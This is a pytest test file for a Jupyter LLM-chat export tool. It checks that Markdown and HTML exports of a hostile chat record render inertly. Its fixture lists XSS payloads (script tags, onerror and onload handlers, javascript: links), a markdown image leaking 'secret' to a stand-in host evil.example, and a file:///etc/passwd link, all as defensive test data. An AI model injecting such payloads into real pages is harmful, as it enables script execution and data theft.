"""``%chat_export`` / ``jupyter-llmchat export``: the notebook's conversation as Markdown or HTML.

The record is untrusted (DESIGN §9): a hostile one (scripts, event handlers, remote images,
``javascript:`` links in prompts, answers, thinking, tool calls and names) must give an HTML
page where nothing is live, checked by parsing it with ``html.parser``; the Markdown export must
stay inert when rendered with raw HTML on (as GitHub and JupyterLab render ``.md`` files).
Order follows the notebook's cells (§10). The command runs end to end in a subprocess on a real
``.ipynb`` file written here.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

from jupyter_llmchat import chat_openai_compatible
from jupyter_llmchat._core._turns import ContentText, Tokens, Turn
from jupyter_llmchat._core._usage import Ledger
from jupyter_llmchat._errors import ConfigurationError
from jupyter_llmchat._record._export import export_record, to_html, to_markdown
from jupyter_llmchat._record._metadata import RecordError, build_record

ROOT = Path(__file__).resolve().parents[1]
EVIL = "https://evil.example"
T0 = "2026-01-02T03:04:05+00:00"


def user(text: str, cell: str | None = None, *, source: str = "cell", after: str | None = None,
         contents: list[dict[str, Any]] | None = None) -> dict[str, Any]:
    t: dict[str, Any] = {"role": "user", "contents": contents or [{"type": "text", "text": text}],
                         "started_at": T0, "duration_s": None, "source": source}
    if cell is not None:
        t["cell_id"] = cell
    if after is not None:
        t["after_cell"] = after
    return t


def reply(text: str, *, model: str = "test-model", tokens: tuple[int | None, int | None, int | None] = (10, 20, 0),
          cost: float | None = None, contents: list[dict[str, Any]] | None = None, cell: str | None = None,
          source: str = "cell") -> dict[str, Any]:
    t: dict[str, Any] = {
        "role": "assistant", "contents": contents or [{"type": "text", "text": text}], "started_at": T0,
        "duration_s": 0.5, "model": model, "tokens": dict(zip(("input", "output", "cached"), tokens)),
        "cost_usd": cost, "finish_reason": "stop", "partial": False, "source": source,
    }
    if cell is not None:
        t["cell_id"] = cell
    return t


def record(sessions: dict[str, list[dict[str, Any]]], *, provider: str = "OpenAI-compatible",
           usage: list[dict[str, Any]] | None = None, system: str | None = None) -> dict[str, Any]:
    return {
        "version": 1,
        "sessions": {name: {"provider": {"name": provider, "base_url": "http://127.0.0.1:9/v1", "model": "test-model"},
                            "system_prompt": system, "turns": turns} for name, turns in sessions.items()},
        "usage": usage or [],
    }


# -- a hostile record ----------------------------------------------------------------------------

SCRIPT = "<script>window.pwned=1</script>"
IMG = "<img src=x onerror=alert(1)>"


def hostile_record() -> dict[str, Any]:
    answer = "\n\n".join([
        f"Here: {SCRIPT} and {IMG}",
        f"![exfil]({EVIL}/leak.png?q=secret)",
        "[click](javascript:alert(1)) [caps](JaVaScRiPt:alert(2)) [data](data:text/html;base64,PHNjcmlwdD4=)",
        "<javascript:alert(3)>",
        f'<iframe src="{EVIL}/frame"></iframe>',
        '<div onclick="alert(4)">block</div>',
        f"<svg onload=alert(5)><image href='{EVIL}/svg.png'/></svg>",
        f"![ref][r]\n\n[r]: {EVIL}/ref.png",
        f'<link rel="stylesheet" href="{EVIL}/x.css"><style>@import url({EVIL}/y.css)</style>',
        f"```html\n{SCRIPT}\n```",
        f'<a href="javascript:alert(6)">raw link</a> <a href=" java\tscript:alert(7)">tab</a>',
        f"[fine link]({EVIL}/page)",
        "[entity](&#x6A;avascript:alert(10)) [angle](<javascript:alert(11)>) [ws]( javascript:alert(12))",
        '```"><script>alert(13)</script>\ncode\n```',
        f"<{EVIL}/autolink.png> [vb](vbscript:msgbox(1)) [file](file:///etc/passwd)",
    ])
    tool_round = [
        reply("", contents=[
            {"type": "thinking", "thinking": f"thinking {SCRIPT} ![t]({EVIL}/think.png)"},
            {"type": "tool_request", "id": "call1", "name": "lookup", "arguments": {"q": SCRIPT}},
            {"type": "tool_request", "id": "call2", "name": "<b onmouseover=alert(8)>x</b>", "arguments": {}},
        ]),
        user("", contents=[
            {"type": "tool_result", "id": "call1", "value": f"{SCRIPT} ![v]({EVIL}/v.png)", "error": None},
            {"type": "tool_result", "id": "call2", "value": None, "error": f"{IMG} <iframe src={EVIL}>"},
        ]),
    ]
    return record({
        "default": [
            user(f"Explain {SCRIPT} and {IMG} and ![p]({EVIL}/prompt.png)", "c1",
                 contents=[{"type": "text", "text": f"Explain {SCRIPT} and {IMG} and ![p]({EVIL}/prompt.png)"},
                           {"type": "image", "url": f"{EVIL}/attached.png"}]),
            *tool_round,
            reply(answer, model=f"model{SCRIPT}", contents=[
                {"type": "thinking", "thinking": f"{IMG} more thoughts <details open ontoggle=alert(9)>"},
                {"type": "text", "text": answer},
            ]),
        ],
    }, provider=f"prov {IMG}", system=f"system {SCRIPT}")


class Inert(HTMLParser):
    """Collects what could act on its own: tags, event attributes, fetched URLs."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str, str | None]] = []
        self.style: list[str] = []
        self.text: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs += [(tag, k, v) for k, v in attrs]
        self._in_style = tag == "style"

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag: str) -> None:
        self._in_style = False

    def handle_data(self, data: str) -> None:
        (self.style if self._in_style else self.text).append(data)


LIVE_TAGS = {"script", "img", "iframe", "frame", "object", "embed", "svg", "math", "image", "link",
             "base", "form", "input", "video", "audio", "source", "picture", "applet", "button", "textarea"}


def assert_inert(page: str, *, allowed_tags: set[str] = set()) -> Inert:
    p = Inert()
    p.feed(page)
    p.close()
    live = (LIVE_TAGS - allowed_tags) & set(p.tags)
    assert not live, live
    for tag, name, value in p.attrs:
        assert not name.startswith("on"), (tag, name, value)
        assert name not in ("src", "srcset", "srcdoc", "formaction", "background", "poster"), (tag, name)
        # Only a renderer's own table alignment, never a style that could load something.
        assert name != "style" or re.fullmatch(r"text-align:\s*(left|right|center)", value or ""), value
        if name == "href":
            # As a browser reads it: blanks and controls dropped, then a scheme if there is one.
            url = "".join(c for c in (value or "") if ord(c) > 0x20).lower()
            scheme = re.match(r"^([a-z][a-z0-9+.\-]*):", url)
            assert scheme is None or scheme.group(1) in ("http", "https", "mailto"), (tag, value)
        if tag == "meta":
            assert name in ("charset", "http-equiv", "content", "name"), name
    metas = [v for t, k, v in p.attrs if t == "meta" and k == "http-equiv"]
    assert all(v and v.lower() == "content-security-policy" for v in metas), metas  # no refresh
    assert not re.search(r"https?:", "".join(p.style)), "the stylesheet fetches nothing"
    assert "@import" not in "".join(p.style) and "url(" not in "".join(p.style)
    return p


def test_html_export_of_a_hostile_record_is_inert_and_loses_no_text() -> None:
    page = to_html(hostile_record(), ["c1"])
    p = assert_inert(page)
    assert p.tags.count("style") == 1
    text = "".join(p.text)
    # Shown as text, not dropped: what the model wrote stays readable.
    for shown in (SCRIPT, IMG, "window.pwned", f"{EVIL}/leak.png?q=secret", "javascript:alert(1)",
                  f"model{SCRIPT}", f"system {SCRIPT}", "more thoughts"):
        assert shown in text, shown
    # Images are links: the remote image's URL is there to click, never to load.
    assert ("a", "href", f"{EVIL}/leak.png?q=secret") in p.attrs
    assert ("a", "href", f"{EVIL}/attached.png") in p.attrs
    assert ("a", "href", f"{EVIL}/page") in p.attrs
    # Thinking is folded; tool calls are one line each, their hostile texts escaped.
    assert "details" in p.tags and "summary" in p.tags
    assert 'lookup({"q": "<script>window.pwned=1</script>"}) → ok' in text
    assert "error: <img src=x onerror=alert(1)>" in text
    csp = next(v for t, k, v in p.attrs if t == "meta" and k == "content" and v and "default-src" in v)
    assert "default-src 'none'" in csp and "img-src 'none'" in csp


def test_markdown_export_of_a_hostile_record_stays_inert_when_rendered_with_html_on() -> None:
    md = to_markdown(hostile_record(), ["c1"])
    # What GitHub, JupyterLab or VS Code do with a .md file: raw HTML passes through.
    rendered = MarkdownIt("commonmark", {"html": True}).enable("table").render(md)
    p = assert_inert(rendered, allowed_tags=set())
    assert set(p.tags) & {"details", "summary"}  # the export's own folding, nothing else
    text = "".join(p.text)
    assert SCRIPT in text and IMG in text
    assert f"{EVIL}/leak.png?q=secret" in text  # the image's URL shown, as a link
    assert 'lookup({"q": "<script>window.pwned=1</script>"}) → ok' in text


# -- order ---------------------------------------------------------------------------------------


def order_record() -> dict[str, Any]:
    return record({"default": [
        user("ask A", "cA"), reply("answer A", cell="cA"),
        user("ask B", "cB"), reply("answer B", cell="cB"),
        user("from the panel, after A", source="panel", after="cA"), reply("panel answer", source="panel"),
        user("ask C", "cC"), reply("answer C", cell="cC"),
        user("headless, no cell id"), reply("answer headless"),
        user("ask deleted", "cGone"), reply("answer deleted", cell="cGone"),
        user("ask A again", "cA"), reply("answer A2", cell="cA"),
    ]})


def prompts(text: str) -> list[str]:
    return re.findall(r"(ask [A-Za-z ]+|from the panel, after A|headless, no cell id)", text)


@pytest.mark.parametrize("render", [to_markdown, to_html])
def test_exchanges_follow_the_notebooks_cell_list(render: Any) -> None:
    out = render(order_record(), ["cC", "cX", "cA", "cB"])
    # C moved to the top; A's two exchanges in their order, then the panel question asked after
    # A; B; the headless exchange stays after the one it followed in the record (C); the deleted
    # cell's exchange is left out, and said.
    assert prompts(out) == ["ask C", "headless, no cell id", "ask A", "ask A again",
                            "from the panel, after A", "ask B"]
    assert "ask deleted" not in out and "answer deleted" not in out
    assert "1 exchange of cells no longer in the notebook left out" in out


def test_without_an_order_the_record_order_stands() -> None:
    out = to_markdown(order_record(), None)
    assert prompts(out) == ["ask A", "ask B", "from the panel, after A", "ask C", "headless, no cell id",
                            "ask deleted", "ask A again"]
    assert "left out" not in out


# -- spend ---------------------------------------------------------------------------------------


def test_spend_per_model_with_the_reports_formatters() -> None:
    rec = record({
        "default": [user("q1", "c1"), reply("a1", model="gpt-x", tokens=(1200, 30, 4), cost=0.0012),
                    user("q2", "c2"), reply("a2", model="other", tokens=(None, None, None), cost=None)],
    }, usage=[{"provider": "OpenAI-compatible", "model": "gpt-x", "turns": 3, "input": 5000, "output": 90,
               "cached": 4, "cost_usd": 0.005}])
    md = to_markdown(rec, ["c1", "c2"])
    spend = md[md.index("## Spend"):]
    assert "| default | OpenAI-compatible | gpt-x | 1 | 1,200 | 30 | 4 | $0.0012 |" in spend
    assert "| default | OpenAI-compatible | other | 1 | n/a | n/a | n/a | n/a |" in spend
    assert "| total |  |  | 2 | 1,200+ | 30+ | 4+ | $0.0012+ |" in spend
    # The notebook's ledger: every answer, replaced and reset ones too.
    assert "| OpenAI-compatible | gpt-x | 3 | 5,000 | 90 | 4 | $0.0050 |" in spend
    # Each exchange ends with the answer's footer line, as in the cell.
    assert "gpt-x · 1,200 in / 30 out · $0.0012" in md
    page = to_html(rec, ["c1", "c2"])
    assert "<td class=\"n\">$0.0012</td>" in page and "<td class=\"n\">n/a</td>" in page


def test_the_local_model_is_free_not_unknown() -> None:
    answer = {**reply("a", model="gemma-3-270m", tokens=(None, None, None), cost=0.0), "free": True}
    rec = record({"default": [user("q", "c1"), answer]}, provider="llama.cpp (local)")
    md = to_markdown(rec, ["c1"])
    assert "| default | llama.cpp (local) | gemma-3-270m | 1 | n/a | n/a | n/a | free, local |" in md
    assert "gemma-3-270m · n/a in / n/a out · free, local" in md


def test_one_session_only_and_an_unknown_session() -> None:
    rec = record({"default": [user("in default", "c1"), reply("a")],
                  "other": [user("in other", "c2"), reply("b")]})
    md = to_markdown(rec, None, "other")
    assert "in other" in md and "in default" not in md
    assert "All answers of this notebook" not in md  # the ledger is not per session
    with pytest.raises(ConfigurationError, match="no session 'nope'.*default, other"):
        to_html(rec, None, "nope")


def test_an_invalid_record_is_refused_and_nothing_written(tmp_path: Path) -> None:
    bad = record({"default": [user("q", "c1"), user("two users in a row", "c2")]})
    out = tmp_path / "x.html"
    with pytest.raises(RecordError, match="turn 1 should be assistant"):
        export_record(bad, None, out)
    with pytest.raises(ConfigurationError, match=r"name the file \.md or \.html"):
        export_record(record({}), None, tmp_path / "x.pdf")
    assert list(tmp_path.iterdir()) == []


def test_the_kernels_in_memory_record_exports(tmp_path: Path) -> None:
    """What ``%chat_export`` hands in: ``build_record`` of live sessions, and its order of cells."""
    chat = chat_openai_compatible(base_url="http://127.0.0.1:9/v1", model="test-model")
    chat.set_turns([
        Turn("user", [ContentText("second cell's question")], meta={"cell_id": "b", "source": "cell"}),
        Turn("assistant", [ContentText("B")], tokens=Tokens(3, 4, 0), model="test-model",
             meta={"cell_id": "b", "source": "cell"}),
        Turn("user", [ContentText("first cell's question")], meta={"cell_id": "a", "source": "cell"}),
        Turn("assistant", [ContentText("A")], tokens=Tokens(5, 6, 0), model="test-model",
             meta={"cell_id": "a", "source": "cell"}),
    ])
    rec = build_record({"default": chat}, Ledger())
    path = export_record(rec, ["a", "b"], tmp_path / "conv.md")
    text = path.read_text(encoding="utf-8")
    assert text.index("first cell's question") < text.index("second cell's question")


# -- the command, end to end ---------------------------------------------------------------------


def write_notebook(path: Path, rec: Any, cell_ids: list[str]) -> None:
    nb = {
        "nbformat": 4, "nbformat_minor": 5,
        "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3"}, "jupyter_llmchat": rec},
        "cells": [{"id": cid, "cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [],
                   "source": f"%%chat\nask {cid}"} for cid in cell_ids],
    }
    path.write_text(json.dumps(nb, indent=1), encoding="utf-8")


def run_cli(*args: str | Path, cwd: Path) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(ROOT), os.environ.get("PYTHONPATH", "")])}
    return subprocess.run([sys.executable, "-m", "jupyter_llmchat", "export", *map(str, args)],
                          cwd=cwd, env=env, capture_output=True, text=True, timeout=120)


@pytest.mark.parametrize("name", ["conversation.md", "conversation.html"])
def test_cli_exports_a_saved_notebook(tmp_path: Path, name: str) -> None:
    nb = tmp_path / "analysis.ipynb"
    write_notebook(nb, order_record(), ["cC", "cA", "cB"])
    r = run_cli(nb, "-o", name, cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    assert "conversation written to" in r.stdout
    out = (tmp_path / name).read_text(encoding="utf-8")
    assert prompts(out)[:2] == ["ask C", "headless, no cell id"]
    assert "analysis" in out  # titled after the notebook
    if name.endswith(".html"):
        assert out.startswith("<!DOCTYPE html>")
        assert_inert(out)
    else:
        assert out.startswith("# analysis")


def test_cli_exports_one_session_of_a_hostile_notebook_inertly(tmp_path: Path) -> None:
    rec = hostile_record()
    rec["sessions"]["other"] = record({"x": [user("other session", "c1"), reply("b")]})["sessions"]["x"]
    nb = tmp_path / "nb.ipynb"
    write_notebook(nb, rec, ["c1"])
    r = run_cli(nb, "-o", tmp_path / "d.html", "-s", "default", cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    out = (tmp_path / "d.html").read_text(encoding="utf-8")
    assert "other session" not in out
    assert_inert(out)


def test_cli_errors_are_one_clear_line_and_exit_1(tmp_path: Path) -> None:
    nb = tmp_path / "nb.ipynb"
    write_notebook(nb, record({"default": [user("q", "c1"), user("again", "c1")]}), ["c1"])
    r = run_cli(nb, "-o", "out.html", cwd=tmp_path)
    assert r.returncode == 1
    assert "its chat record cannot be read" in r.stderr and "should be assistant" in r.stderr
    assert "Traceback" not in r.stderr
    r = run_cli(nb, "-o", "out.pdf", cwd=tmp_path)
    assert r.returncode == 1 and "name the file .md or .html" in r.stderr
    write_notebook(nb, record({"default": [user("q", "c1"), reply("a")]}), ["c1"])
    r = run_cli(nb, "-o", "out.md", "-s", "nope", cwd=tmp_path)
    assert r.returncode == 1 and "no session 'nope'" in r.stderr
    (tmp_path / "plain.ipynb").write_text(json.dumps({"cells": [], "metadata": {}}), encoding="utf-8")
    r = run_cli(tmp_path / "plain.ipynb", "-o", "out.md", cwd=tmp_path)
    assert r.returncode == 1 and "no chat record" in r.stderr
    (tmp_path / "broken.ipynb").write_text("{not json", encoding="utf-8")
    r = run_cli(tmp_path / "broken.ipynb", "-o", "out.md", cwd=tmp_path)
    assert r.returncode == 1 and "cannot read" in r.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["broken.ipynb", "nb.ipynb", "plain.ipynb"]


def test_export_is_of_the_record_layer_no_ipython() -> None:
    """The command reads a saved notebook with no kernel: nothing of Jupyter's is imported."""
    code = (
        "import sys, json\n"
        "from jupyter_llmchat._record._export import to_html, to_markdown\n"
        f"rec = {order_record()!r}\n"
        "to_html(rec, ['cA']); to_markdown(rec, None)\n"
        "print(json.dumps(sorted(m for m in sys.modules "
        "if m.split('.')[0] in ('IPython', 'traitlets', 'ipywidgets', 'ipykernel', 'comm'))))\n"
    )
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    out = subprocess.run([sys.executable, "-c", code], cwd=ROOT, env=env, capture_output=True, text=True,
                         timeout=120, check=True)
    assert json.loads(out.stdout) == []
